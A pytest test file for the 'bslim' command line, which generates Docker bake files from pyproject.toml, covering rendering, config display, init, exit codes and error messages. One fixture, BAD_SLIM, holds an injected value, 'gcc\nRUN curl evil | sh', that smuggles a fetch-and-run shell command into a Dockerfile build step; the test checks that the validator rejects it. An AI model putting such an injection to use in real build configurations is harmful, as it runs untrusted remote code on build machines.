"""The `bslim` command line, through `cli.main` (the console script) with its exit codes.

`main` is what users run: it turns every BslimError into `error: ...` lines and exit codes
0/1/2/3. Typer's CliRunner bypasses that handler, so it is used only where Typer itself is
the subject (help, version).
"""

from __future__ import annotations

import importlib
import json
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from buildkit_slim import __version__
from buildkit_slim.blueprint import make_blueprint
from buildkit_slim.cli import app, main
from buildkit_slim.config import load
from buildkit_slim.render import render_all
from tests.unit.conftest import Tripwire, TripwireError, WriteProject

HELLO = """\
    # The project's own comment, kept by init.
    [project]
    name = "hello"  # inline comment
    version = "1.0.0"
    description = "Says hello"
    dependencies = []

    [project.scripts]
    hello = "hello:main"

    [tool.ruff]
    line-length = 100  # unrelated tool table, kept
"""
SLIM = """\
    [tool.slim]
    image = "ghcr.io/acme/hello"
"""
FILES = ["bake/Dockerfile", "bake/Dockerfile.dockerignore", "bake/docker-bake.json",
         # the named context bslim-shim: the shim, what it pins, the project's build requirements,
         # and the modules the shim imports
         "bake/shim/cross_build.py", "bake/shim/hello.build-requires.txt",
         "bake/shim/origins.py", "bake/shim/pinning.py", "bake/shim/pins.txt",
         "bake/shim/pip_for_target.py",
         "bake/shim/platforms.py", "bake/shim/wheel_build.py", "bake/shim/wheel_gate.py"]


class Result:
    def __init__(self, code: int, out: str, err: str) -> None:
        self.code, self.out, self.err = code, out, err

    @property
    def err_lines(self) -> list[str]:
        return self.err.splitlines()


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> Result:
    capsys.readouterr()
    try:
        main(list(argv))
        code = 0
    except SystemExit as exc:
        assert isinstance(exc.code, int), exc.code
        code = exc.code
    out, err = capsys.readouterr()
    return Result(code, out, err)


@pytest.fixture
def hello(write_project: WriteProject) -> Path:
    return write_project(HELLO + SLIM)


def snapshot(root: Path) -> dict[str, str]:
    """Every file under root (but pyproject.toml) with its content."""
    return {p.relative_to(root).as_posix(): p.read_text(encoding="utf-8")
            for p in sorted(root.rglob("*")) if p.is_file() and p.name != "pyproject.toml"}


def rendered(root: Path) -> dict[str, str]:
    return {f.path: f.text for f in render_all(make_blueprint(load(root)))}


# --- render -------------------------------------------------------------------------------------

def test_render_writes_the_generated_files(capsys: pytest.CaptureFixture[str], hello: Path) -> None:
    result = run(capsys, "render", "--project", str(hello))
    assert result.code == 0
    assert result.out.splitlines() == [f"wrote {path}" for path in FILES]
    assert result.err == ""
    assert snapshot(hello) == rendered(hello)
    assert sorted(snapshot(hello)) == FILES


def test_render_again_changes_nothing(capsys: pytest.CaptureFixture[str], hello: Path) -> None:
    run(capsys, "render", "--project", str(hello))
    mtimes = {path: (hello / path).stat().st_mtime_ns for path in FILES}
    result = run(capsys, "render", "--project", str(hello))
    assert result.code == 0
    assert result.out.splitlines() == [f"unchanged {path}" for path in FILES]
    assert {path: (hello / path).stat().st_mtime_ns for path in FILES} == mtimes


def test_render_defaults_to_the_current_directory(
    capsys: pytest.CaptureFixture[str], hello: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(hello)
    assert run(capsys, "render").code == 0
    assert sorted(snapshot(hello)) == FILES


def test_render_check_when_current(capsys: pytest.CaptureFixture[str], hello: Path) -> None:
    run(capsys, "render", "--project", str(hello))
    result = run(capsys, "render", "--check", "--project", str(hello))
    assert result.code == 0
    assert result.out == f"up to date: {', '.join(FILES)}\n"


def test_render_check_after_a_tool_slim_change(
    capsys: pytest.CaptureFixture[str], hello: Path
) -> None:
    run(capsys, "render", "--project", str(hello))
    before = snapshot(hello)
    pyproject = hello / "pyproject.toml"
    pyproject.write_text(pyproject.read_text(encoding="utf-8")
                         + 'platforms = ["linux/amd64"]\npython = "3.12"\n', encoding="utf-8")
    result = run(capsys, "render", "--check", "--project", str(hello))
    assert result.code == 1
    assert result.err_lines == [
        "error: generated files are stale: bake/Dockerfile, bake/docker-bake.json",
        f"hint: run `bslim render --project {hello}` and commit them",
    ]
    assert snapshot(hello) == before  # --check writes nothing


def test_render_check_with_nothing_rendered_yet(
    capsys: pytest.CaptureFixture[str], hello: Path
) -> None:
    result = run(capsys, "render", "--check", "--project", str(hello))
    assert result.code == 1
    assert result.err_lines[0] == f"error: generated files are stale: {', '.join(FILES)}"
    assert not (hello / "bake").exists()


def test_render_stdout_prints_the_bake_file_and_writes_nothing(
    capsys: pytest.CaptureFixture[str], hello: Path
) -> None:
    result = run(capsys, "render", "--stdout", "--project", str(hello))
    assert result.code == 0
    assert result.out == rendered(hello)["bake/docker-bake.json"]
    assert json.loads(result.out)["target"]["hello"]["tags"] == ["ghcr.io/acme/hello:${TAG}"]
    assert not (hello / "bake").exists()


BAD_SLIM = """\
    [tool.slim]
    image = "ghcr.io/acme/hello:1.0"
    platforms = ["linux/armv7"]
    apt-build = ["gcc\\nRUN curl evil | sh"]
"""
BAD_LINES = [
    "error: tool.slim.image: 'ghcr.io/acme/hello:1.0': give the repository without a tag or "
    "digest (tags come from TAG / bslim tags)",
    "error: tool.slim.platforms[0]: 'linux/armv7' is not a supported platform; did you mean "
    "'linux/arm/v7'?",
    "error: tool.slim.apt-build[0]: must not contain newlines or control characters",
]


def test_bad_config_exits_2_lists_every_error_and_writes_nothing(
    capsys: pytest.CaptureFixture[str], write_project: WriteProject
) -> None:
    root = write_project(HELLO + BAD_SLIM)
    result = run(capsys, "render", "--project", str(root))
    assert result.code == 2
    assert result.err_lines == BAD_LINES
    assert result.out == ""
    assert not (root / "bake").exists()


def test_bad_config_leaves_existing_files_untouched(
    capsys: pytest.CaptureFixture[str], write_project: WriteProject
) -> None:
    root = write_project(HELLO + BAD_SLIM, files={
        "bake/Dockerfile": "old Dockerfile\n", "bake/docker-bake.json": "{}\n"})
    before = snapshot(root)
    for command in (["render"], ["render", "--check"], ["render", "--stdout"], ["config"],
                    ["bake"], ["bake", "--print"]):
        result = run(capsys, *command, "--project", str(root))
        assert (command, result.code, result.err_lines) == (command, 2, BAD_LINES)
        assert snapshot(root) == before


def test_no_pyproject(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    result = run(capsys, "render", "--project", str(tmp_path))
    assert result.code == 2
    assert result.err_lines == [f"error: --project: no pyproject.toml in {tmp_path}",
                                "hint: pass --project DIR pointing at a Python project"]


def test_no_tool_slim(capsys: pytest.CaptureFixture[str], write_project: WriteProject) -> None:
    root = write_project(HELLO)
    result = run(capsys, "render", "--project", str(root))
    assert result.code == 2
    assert result.err_lines == ["error: tool.slim: no [tool.slim] table in pyproject.toml; run "
                                "`bslim init` to add one"]


# --- render does not import python_on_whales ------------------------------------------------------

@pytest.fixture
def fresh_bslim() -> Iterator[None]:
    """Import buildkit_slim anew inside the test, so module-level imports are seen too."""
    saved = {name: mod for name, mod in sys.modules.items()
             if name == "buildkit_slim" or name.startswith("buildkit_slim.")}
    for name in saved:
        del sys.modules[name]
    try:
        yield
    finally:
        for name in [n for n in sys.modules if n == "buildkit_slim"
                     or n.startswith("buildkit_slim.")]:
            del sys.modules[name]
        sys.modules.update(saved)


@pytest.mark.usefixtures("fresh_bslim")
@pytest.mark.parametrize("command", [["render"], ["render", "--check"], ["render", "--stdout"],
                                     ["config"]])
def test_render_and_config_never_import_python_on_whales(
    capsys: pytest.CaptureFixture[str], hello: Path, tripwire: Tripwire, command: list[str]
) -> None:
    # The tripwire removed python_on_whales from sys.modules and fails any attempt to import
    # it; buildkit_slim was removed too, so this covers its module-level imports as well.
    assert "python_on_whales" not in sys.modules
    assert "buildkit_slim.cli" not in sys.modules
    cli = importlib.import_module("buildkit_slim.cli")
    capsys.readouterr()
    try:
        cli.main([*command, "--project", str(hello)])
    except SystemExit as exc:
        assert exc.code in (0, 1)  # --check on a fresh project: stale, still no docker
    assert tripwire.trips == []
    assert not [m for m in sys.modules if m.startswith("python_on_whales")]


# --- config -------------------------------------------------------------------------------------

def test_config_marks_where_values_came_from(
    capsys: pytest.CaptureFixture[str], write_project: WriteProject
) -> None:
    root = write_project(HELLO + """
        [tool.slim]
        image = "ghcr.io/acme/hello"
        python = "3.12"

        [tool.slim.targets.api]
        expose = [8080]

        [tool.slim.targets.worker]
        image = "ghcr.io/acme/hello-worker"
        cache = { registry = "ghcr.io/acme/hello-cache" }
    """)
    result = run(capsys, "config", "--project", str(root))
    assert result.code == 0
    lines = result.out.splitlines()
    assert lines[:3] == ["# project hello 1.0.0", 'output-dir = "bake"', "tags = {}"]
    api = lines[lines.index("[target api]"):lines.index("[target worker]")]
    worker = lines[lines.index("[target worker]"):]

    def row(key: str, value: str, source: str) -> str:
        return f"{key:<19} = {value}  # {source}"  # 19: platform-index-urls, the longest key
    assert row("image", '"ghcr.io/acme/hello"', "tool.slim") in api
    assert row("python", '"3.12"', "tool.slim") in api
    assert row("expose", '["8080/tcp"]', "tool.slim.targets.api") in api
    assert row("debian", '"trixie"', "default") in api
    assert row("entrypoint", '["hello"]', "derived") in api
    assert row("image", '"ghcr.io/acme/hello-worker"', "tool.slim.targets.worker") in worker
    assert row("expose", "[]", "default") in worker
    assert row("cache", "{}", "default") in api
    assert row("cache", '{"registry": "ghcr.io/acme/hello-cache"}',
               "tool.slim.targets.worker") in worker
    # Every value in one column, the longest key's too.
    assert {line.index(" = ") for line in api[1:] if line} == {19}


# --- init ---------------------------------------------------------------------------------------

def test_init_adds_a_table_and_keeps_comments(
    capsys: pytest.CaptureFixture[str], write_project: WriteProject
) -> None:
    root = write_project(HELLO)
    original = (root / "pyproject.toml").read_text(encoding="utf-8")
    result = run(capsys, "init", "--project", str(root), "--image", "ghcr.io/acme/hello")
    assert result.code == 0
    text = (root / "pyproject.toml").read_text(encoding="utf-8")
    assert text.startswith(original)  # every byte before, comments included, kept
    assert text[len(original):] == (
        '\n[tool.slim]\nimage = "ghcr.io/acme/hello"\npython = "3.13"\ndebian = "trixie"\n'
        'platforms = ["linux/amd64", "linux/arm/v7"]\n')
    assert result.out.startswith(f"added [tool.slim] to {root / 'pyproject.toml'}:\n")
    # What init writes is a valid configuration.
    assert run(capsys, "render", "--project", str(root)).code == 0


def test_init_writes_an_entrypoint_when_none_can_be_derived(
    capsys: pytest.CaptureFixture[str], write_project: WriteProject
) -> None:
    root = write_project('[project]\nname = "Spark-Plug"\n')
    assert run(capsys, "init", "--project", str(root)).code == 0
    text = (root / "pyproject.toml").read_text(encoding="utf-8")
    assert 'image = "spark-plug"' in text
    assert 'entrypoint = ["python", "-m", "spark_plug"]' in text
    assert load(root).targets[0].entrypoint == ("python", "-m", "spark_plug")


def test_init_refuses_an_existing_table(
    capsys: pytest.CaptureFixture[str], write_project: WriteProject
) -> None:
    root = write_project(HELLO + SLIM)
    before = (root / "pyproject.toml").read_bytes()
    result = run(capsys, "init", "--project", str(root), "--image", "ghcr.io/acme/other")
    assert result.code == 2
    assert result.err_lines == [f"error: {root / 'pyproject.toml'} already has [tool.slim]",
                                "hint: pass --force to replace it"]
    assert (root / "pyproject.toml").read_bytes() == before


def test_init_force_replaces_the_table(
    capsys: pytest.CaptureFixture[str], write_project: WriteProject
) -> None:
    root = write_project(HELLO + SLIM + 'apt-runtime = ["libpq5"]\n')
    result = run(capsys, "init", "--force", "--project", str(root), "--image", "ghcr.io/a/b")
    assert result.code == 0
    text = (root / "pyproject.toml").read_text(encoding="utf-8")
    assert "# The project's own comment, kept by init." in text
    assert "line-length = 100  # unrelated tool table, kept" in text
    assert 'image = "ghcr.io/a/b"' in text
    assert "apt-runtime" not in text
    assert text.count("[tool.slim]") == 1


def test_init_rejects_a_bad_image(
    capsys: pytest.CaptureFixture[str], write_project: WriteProject
) -> None:
    root = write_project(HELLO)
    before = (root / "pyproject.toml").read_bytes()
    result = run(capsys, "init", "--project", str(root), "--image", "ghcr.io/acme/hello:1.0")
    assert result.code == 2
    assert result.err_lines == ["error: --image: 'ghcr.io/acme/hello:1.0' is not a valid image "
                                "repository without tag (e.g. ghcr.io/acme/spark)"]
    assert (root / "pyproject.toml").read_bytes() == before


# --- the command line itself --------------------------------------------------------------------

def test_version(capsys: pytest.CaptureFixture[str]) -> None:
    result = run(capsys, "--version")
    assert (result.code, result.out, result.err) == (0, f"bslim {__version__}\n", "")


def test_unknown_option_is_one_error_line(capsys: pytest.CaptureFixture[str], hello: Path) -> None:
    result = run(capsys, "render", "--bogus", "--project", str(hello))
    assert result.code == 2
    assert result.err_lines == ["error: No such option: --bogus",
                                "hint: see `bslim render --help`"]
    assert not (hello / "bake").exists()


def test_unknown_command(capsys: pytest.CaptureFixture[str]) -> None:
    result = run(capsys, "rendr")
    assert result.code == 2
    assert [line for line in result.err_lines if line.startswith("error:")] == [
        "error: No such command 'rendr'. Did you mean 'render'?"]


def test_no_arguments_prints_help_and_exits_2(capsys: pytest.CaptureFixture[str]) -> None:
    result = run(capsys)
    assert result.code == 2
    assert "Usage: bslim" in result.err
    assert "render" in result.err


def test_typer_runner_help_lists_every_command() -> None:
    result = CliRunner().invoke(app, ["--help"])
    assert result.exit_code == 0
    for command in ("render", "config", "init", "bake", "doctor"):
        assert f"  {command} " in result.output


# --- bake: every usage error comes before any docker call -----------------------------------------

@pytest.mark.parametrize(("args", "error"), [
    pytest.param(["--platform", "linux/armv7"],
                 "error: --platform: 'linux/armv7' is not a platform of target 'hello'; did you "
                 "mean 'linux/arm/v7'? (platforms: linux/amd64, linux/arm/v7)", id="platform"),
    pytest.param(["--set", "bad"],
                 "error: --set: 'bad' must look like pattern.key=value, e.g. *.args.FOO=bar or "
                 "app.platform=linux/amd64", id="set"),
    pytest.param(["helo"], "error: target 'helo' is not defined; did you mean 'hello'? "
                 "(targets: hello)", id="target"),
    pytest.param(["--load", "--push"], "error: --load and --push: choose one", id="load-push"),
    pytest.param(["--progress", "fancy"],
                 "error: --progress: 'fancy' is not valid; use plain, tty or auto",
                 id="progress"),
])
def test_bake_usage_errors_exit_2_before_docker(
    capsys: pytest.CaptureFixture[str], hello: Path, tripwire: Tripwire, args: list[str],
    error: str
) -> None:
    result = run(capsys, "bake", "--project", str(hello), *args)
    assert result.code == 2
    assert result.err_lines[0] == error
    assert [line for line in result.err_lines if line.startswith("error:")] == [error]
    assert tripwire.trips == []
    assert not (hello / "bake").exists()


def test_bake_renders_before_it_reaches_for_docker(
    capsys: pytest.CaptureFixture[str], hello: Path, tripwire: Tripwire
) -> None:
    with pytest.raises(TripwireError):
        main(["bake", "--project", str(hello)])
    trips = tripwire.reset()
    assert trips[0].startswith("import python_on_whales")
    assert snapshot(hello) == rendered(hello)
